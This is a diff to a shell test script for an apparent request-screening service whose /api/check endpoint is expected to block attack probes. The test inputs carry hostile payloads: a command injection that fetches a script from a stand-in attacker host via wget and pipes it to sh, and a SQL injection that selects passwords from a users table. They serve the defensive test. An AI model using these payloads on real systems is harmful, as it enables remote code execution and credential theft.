@@ -66,6 +66,11 @@ expect_eq "check a bad X-Real-IP" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.
 out=$(curl -s "$url/api/check" -H 'X-Real-IP: 203.0.113.60' -H 'Accept: application/json' \
   -H 'X-Original-URI: /cgi-bin/x?cmd=;wget%20http://evil.example/x.sh%20-O-|sh' -H 'X-Original-Method: GET')
 expect_contains "check refuses the request's own attack" "$out" '"blocked":true,"score":0,"reason":"http-rce-probing"'
+out=$(curl -s "$url/api/check" -H 'X-Real-IP: 203.0.113.61' -H 'Accept: application/json' \
+  -H "X-Original-URI: /item?id=1%27%20union%20select%20password%20from%20users--" -H 'X-Original-Method: GET')
+expect_contains "check refuses a plain union select after a quote" "$out" '"blocked":true,"score":0,"reason":"http-sqli-probing"'
+expect_eq "a weak SQL fragment alone is no refusal" \
+  "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.62' -H 'X-Original-URI: /x?q=md5(1)')" 200
 expect_eq "an allowlisted client is never refused" \
   "$(code "$url/api/check" -H 'X-Real-IP: 192.0.2.9' -H 'X-Original-URI: /.env')" 200
 
